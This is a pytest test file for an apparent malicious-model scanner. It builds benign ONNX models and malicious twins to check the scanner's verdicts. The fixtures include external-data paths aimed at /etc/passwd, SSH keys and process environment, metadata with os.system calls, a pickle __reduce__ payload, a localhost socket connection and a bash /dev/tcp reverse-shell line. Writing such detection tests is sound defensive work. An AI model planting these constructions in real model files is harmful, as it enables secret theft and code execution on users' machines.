"""ONNX models written with the onnx library (never loaded by malhug): benign models are clean,
their malicious twins are found, tensor data is skipped unread, corrupt files are inconclusive."""
import base64
import io
import pickle

import numpy as np
import pytest
from protowire import blob, message, uint

onnx = pytest.importorskip("onnx")
from onnx import TensorProto, helper, numpy_helper  # noqa: E402

import malhug  # noqa: E402
from malhug.formats import analyse  # noqa: E402
from malhug.formats.base import ScanContext  # noqa: E402


def only(path):
    report = malhug.scan(path)
    assert len(report.files) == 1
    return report.files[0]


def linear_model(nodes=None, initializers=None, metadata=None, opsets=None, functions=None, size=4):
    weight = numpy_helper.from_array(np.ones((size, size), dtype=np.float32), "weight")
    nodes = nodes or [helper.make_node("MatMul", ["x", "weight"], ["y"], name="matmul")]
    graph = helper.make_graph(
        nodes, "linear",
        [helper.make_tensor_value_info("x", TensorProto.FLOAT, [1, size])],
        [helper.make_tensor_value_info("y", TensorProto.FLOAT, [1, size])],
        initializer=[weight] + list(initializers or []),
    )
    model = helper.make_model(graph, producer_name="malhug-tests",
                              opset_imports=opsets or [helper.make_opsetid("", 17)],
                              functions=functions or [])
    for key, value in (metadata or {}).items():
        helper.set_model_props(model, {**{p.key: p.value for p in model.metadata_props}, key: value})
    return model


def save(model, path, **kwargs):
    onnx.save_model(model, str(path), **kwargs)
    return path


def external_tensor(name: str, location: str):
    tensor = TensorProto(name=name, data_type=TensorProto.FLOAT, dims=[4])
    tensor.data_location = TensorProto.EXTERNAL
    for key, value in (("location", location), ("offset", "0"), ("length", "16")):
        entry = tensor.external_data.add()
        entry.key, entry.value = key, value
    return tensor


def test_model_from_the_helper_api_is_clean(tmp_path):
    model = linear_model(
        nodes=[helper.make_node("MatMul", ["x", "weight"], ["h"], name="matmul"),
               helper.make_node("Relu", ["h"], ["r"]),
               helper.make_node("If", ["cond"], ["y"],
                                then_branch=helper.make_graph([helper.make_node("Identity", ["r"], ["t"])], "then", [],
                                                              [helper.make_tensor_value_info("t", TensorProto.FLOAT, None)]),
                                else_branch=helper.make_graph([helper.make_node("Neg", ["r"], ["e"])], "else", [],
                                                              [helper.make_tensor_value_info("e", TensorProto.FLOAT, None)]))],
        metadata={"author": "malhug tests", "license": "MIT", "converted_from": "torch.nn.Linear(4, 4)"},
    )
    model.graph.input.append(helper.make_tensor_value_info("cond", TensorProto.BOOL, []))
    onnx.checker.check_model(model, full_check=False)
    result = only(save(model, tmp_path / "model.onnx"))
    assert result.format == "onnx"
    assert str(result.verdict) == "clean", result.findings
    note = next(m for m in result.members if m.name == "<model>").note
    assert "3 graphs" in note and "MatMul" in note and "Neg" in note and "producer malhug-tests" in note


def test_contrib_and_local_function_domains_are_not_findings(tmp_path):
    function = helper.make_function("pkg.custom_fns", "Gelu2", ["a"], ["b"],
                                    [helper.make_node("Relu", ["a"], ["b"])], [helper.make_opsetid("", 17)])
    model = linear_model(
        nodes=[helper.make_node("MatMul", ["x", "weight"], ["h"]),
               helper.make_node("FusedGemm", ["h", "weight"], ["g"], domain="com.microsoft"),
               helper.make_node("Gelu2", ["g"], ["y"], domain="pkg.custom_fns")],
        opsets=[helper.make_opsetid("", 17), helper.make_opsetid("com.microsoft", 1),
                helper.make_opsetid("pkg.custom_fns", 1)],
        functions=[function])
    result = only(save(model, tmp_path / "model.onnx"))
    assert str(result.verdict) == "clean", result.findings
    assert not result.findings


def test_external_data_beside_the_model_is_clean(tmp_path):
    model = linear_model(size=64)
    path = save(model, tmp_path / "model.onnx", save_as_external_data=True, all_tensors_to_one_file=True,
                location="model.onnx.data", size_threshold=0)
    assert (tmp_path / "model.onnx.data").exists()
    result = only(path)
    assert str(result.verdict) == "clean", result.findings
    assert "(1 with external data)" in next(m for m in result.members if m.name == "<model>").note


@pytest.mark.parametrize("location", ["../../etc/passwd", "/etc/passwd", "~/.ssh/id_rsa", "weights/../../../x"])
def test_external_data_outside_the_model_folder_is_malicious(tmp_path, location):
    model = linear_model(initializers=[external_tensor("stolen", location)])
    result = only(save(model, tmp_path / "model.onnx"))
    assert str(result.verdict) == "malicious"
    (finding,) = result.findings
    assert (finding.rule, finding.category) == ("onnx-external-data-path", "file_read")
    assert "'stolen'" in finding.message and location in finding.evidence


def test_external_data_in_a_subgraph_constant_is_found(tmp_path):
    constant = helper.make_node("Constant", [], ["c"], value=external_tensor("c", "/proc/self/environ"))
    body = helper.make_graph([constant, helper.make_node("Identity", ["c"], ["out"])], "body", [],
                             [helper.make_tensor_value_info("out", TensorProto.FLOAT, None)])
    model = linear_model(nodes=[helper.make_node("MatMul", ["x", "weight"], ["y"]),
                                helper.make_node("If", ["cond"], ["z"], then_branch=body, else_branch=body)])
    result = only(save(model, tmp_path / "model.onnx"))
    assert {f.rule for f in result.findings} == {"onnx-external-data-path"}
    assert len(result.findings) == 2


def test_unknown_custom_domain_is_suspicious(tmp_path):
    model = linear_model(
        nodes=[helper.make_node("MatMul", ["x", "weight"], ["h"]),
               helper.make_node("Backdoor", ["h"], ["y"], domain="evil.custom", name="bd")],
        opsets=[helper.make_opsetid("", 17), helper.make_opsetid("evil.custom", 1)])
    result = only(save(model, tmp_path / "model.onnx"))
    assert str(result.verdict) == "suspicious"
    (finding,) = result.findings
    assert finding.rule == "onnx-custom-domain" and finding.category == "native_code"
    assert "'evil.custom'" in finding.message and "Backdoor" in finding.message
    assert finding.evidence == "bd = evil.custom.Backdoor(...)"


def test_onnxruntime_extensions_domain_is_low(tmp_path):
    model = linear_model(nodes=[helper.make_node("GPT2Tokenizer", ["x"], ["y"], domain="ai.onnx.contrib")],
                         opsets=[helper.make_opsetid("", 17), helper.make_opsetid("ai.onnx.contrib", 1)])
    result = only(save(model, tmp_path / "model.onnx"))
    assert str(result.verdict) == "clean"
    assert [str(f.severity) for f in result.findings] == ["low"]


@pytest.mark.parametrize("op, domain", [("PythonOp", "com.microsoft"), ("PyOp", "ai.onnx.contrib"),
                                        ("PyFunc", "my.domain")])
def test_python_operators_are_malicious(tmp_path, op, domain):
    node = helper.make_node(op, ["x"], ["y"], domain=domain, name="hook", func_name="payload.run",
                            inline_source="print('hello')")
    model = linear_model(nodes=[node], opsets=[helper.make_opsetid("", 17), helper.make_opsetid(domain, 1)])
    result = only(save(model, tmp_path / "model.onnx"))
    assert str(result.verdict) == "malicious"
    python = [f for f in result.findings if f.rule == "onnx-python-op"]
    assert len(python) == 1 and python[0].category == "code_exec"
    assert "func_name='payload.run'" in python[0].evidence


def test_metadata_with_code_is_found(tmp_path):
    payload = "import os\nos.system('id')\n"
    model = linear_model(metadata={"preprocess": payload})
    result = only(save(model, tmp_path / "model.onnx"))
    assert str(result.verdict) == "malicious"
    rules = {f.rule for f in result.findings}
    assert "metadata-code" in rules
    assert any(f.category == "command_exec" for f in result.findings)


def test_metadata_with_base64_code_is_suspicious(tmp_path):
    encoded = base64.b64encode(b"import socket\nsocket.create_connection(('127.0.0.1', 4444))\n").decode()
    result = only(save(linear_model(metadata={"blob": encoded}), tmp_path / "model.onnx"))
    assert str(result.verdict) in ("suspicious", "malicious")
    assert any(f.rule == "metadata-code" and "base64" in f.message for f in result.findings)


def test_metadata_with_a_base64_pickle_is_analysed(tmp_path):
    class Payload:
        def __reduce__(self):
            import os
            return os.system, ("echo hello",)

    encoded = base64.b64encode(pickle.dumps(Payload())).decode()
    result = only(save(linear_model(metadata={"state": encoded}), tmp_path / "model.onnx"))
    assert str(result.verdict) == "malicious"
    assert any(f.rule == "metadata-encoded-payload" for f in result.findings)
    assert any(f.category == "command_exec" for f in result.findings)


def test_metadata_with_a_shell_line_informs(tmp_path):
    model = linear_model(metadata={"notes": "run: bash -i >& /dev/tcp/127.0.0.1/4444 0>&1"})
    result = only(save(model, tmp_path / "model.onnx"))
    assert any(f.rule.startswith("pattern-") for f in result.findings)


@pytest.mark.parametrize("cut", [3, 40, 200])
def test_truncated_model_is_inconclusive(tmp_path, cut):
    data = linear_model(size=32).SerializeToString()
    path = tmp_path / "model.onnx"
    path.write_bytes(data[:cut])
    result = only(path)
    assert str(result.verdict) == "inconclusive"


def test_garbage_named_onnx_is_inconclusive(tmp_path):
    path = tmp_path / "model.onnx"
    path.write_bytes(bytes(range(256)) * 4)
    assert str(only(path).verdict) == "inconclusive"


def test_ort_format_is_named(tmp_path):
    path = tmp_path / "model.ort"
    path.write_bytes(b"\x10\x00\x00\x00ORTM" + b"\x00" * 64)
    result = only(path)
    assert result.format == "onnx_ort" and str(result.verdict) == "clean"


def test_embedded_tensor_data_is_skipped_unread():
    model = linear_model(size=1024)  # 4 MiB of raw_data
    data = model.SerializeToString()
    stream = CountingStream(data)
    ctx = ScanContext("model.onnx")
    assert analyse(stream, ctx, None, hint="onnx") == "onnx"
    assert not ctx.problems and not ctx.findings
    assert stream.bytes_read < 256 * 1024


def test_deeply_nested_subgraphs_are_bounded():
    graph = message(1, blob(4, "Identity"))
    for _ in range(60):  # each level is three messages deep: node, attribute, graph
        graph = message(1, blob(4, "Loop"), message(5, blob(1, "body"), message(6, graph)))
    ctx = ScanContext("model.onnx")
    analyse(io.BytesIO(uint(1, 8) + message(7, graph)), ctx, None, hint="onnx")
    assert ctx.problems and "nested deeper" in ctx.problems[0].reason


class CountingStream(io.BytesIO):
    def __init__(self, data):
        super().__init__(data)
        self.bytes_read = 0

    def read(self, size=-1):
        data = super().read(size)
        self.bytes_read += len(data)
        return data


def test_usage_example_in_the_doc_string_is_not_a_finding(tmp_path):
    model = linear_model()
    model.doc_string = "Usage:\n\nimport onnxruntime as ort\nsession = ort.InferenceSession('model.onnx')\n"
    result = only(save(model, tmp_path / "model.onnx"))
    assert str(result.verdict) == "clean" and not result.findings
